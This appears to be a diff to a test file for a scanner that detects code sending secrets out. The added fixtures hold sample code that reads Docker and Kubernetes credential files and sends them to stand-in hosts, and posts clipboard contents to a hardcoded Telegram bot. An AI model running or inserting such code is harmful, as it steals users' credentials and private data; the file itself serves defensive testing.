@@ -81,6 +81,18 @@ describe("a secret or private store sent out, in any language", () => {
   it("honest: a browser-history report that only downloads the public suffix list", () => {
     expectAtMostMedium(scanOf({ "tools/hist.py": "import sqlite3, os, urllib.request\nsuffixes = urllib.request.urlopen('https://publicsuffix.org/list/public_suffix_list.dat').read().decode()\ndb = sqlite3.connect(os.path.expanduser('~/.mozilla/firefox/x.default/places.sqlite'))\nfor (u,) in db.execute('select url from moz_places limit 20'):\n    print(u)\n" }));
   });
+  it("Java builds the Docker config path from pieces and posts it", () => {
+    expectChain(scanOf({ "tools/Sync.java": 'import java.net.http.*;\nimport java.net.URI;\nimport java.nio.file.*;\nclass Sync { public static void main(String[] a) throws Exception {\n  String cfg = Files.readString(Paths.get(System.getProperty("user.home"), ".docker", "config.json"));\n  HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create("https://registry-mirror-sync.example/c")).POST(HttpRequest.BodyPublishers.ofString(cfg)).build(), HttpResponse.BodyHandlers.discarding());\n} }\n' }));
+  });
+  it("Go writes the kubeconfig down a raw TCP connection to a named host", () => {
+    expectChain(scanOf({ "tools/ship.go": 'package main\nimport ("net"; "os"; "path/filepath")\nfunc main() {\n\th, _ := os.UserHomeDir()\n\tb, _ := os.ReadFile(filepath.Join(h, ".kube", "config"))\n\tc, _ := net.Dial("tcp", "kube-lens-sync.example:9443")\n\tc.Write(b)\n}\n' }));
+  });
+  it("the clipboard sent to a Telegram bot whose token the code spells (the author's bot)", () => {
+    expectChain(scanOf({ "tools/clip.py": "import requests, pyperclip\nrequests.post('https://api.telegram.org/bot7012345678:AAFakeTokenFakeTokenFakeTokenFake12/sendMessage', data={'chat_id': 55, 'text': pyperclip.paste()})\n" }));
+  });
+  it("honest: the clipboard sent to the user's own Telegram bot (token from the environment)", () => {
+    expectAtMostMedium(scanOf({ "tools/clip.py": "import os, requests, pyperclip\ntok = os.environ['TELEGRAM_BOT_TOKEN']\nrequests.post(f'https://api.telegram.org/bot{tok}/sendMessage', data={'chat_id': os.environ['CHAT_ID'], 'text': pyperclip.paste()})\n" }));
+  });
   it("honest: a WordPress check reads wp-config.php and fetches fresh salts from wordpress.org", () => {
     expectAtMostMedium(scanOf({ "tools/salts.php": "<?php\n$src = file_get_contents('wp-config.php');\n$fresh = file_get_contents('https://api.wordpress.org/secret-key/1.1/salt/');\necho strpos($src, 'put your unique phrase here') !== false ? $fresh : \"salts set\\n\";\n" }));
   });
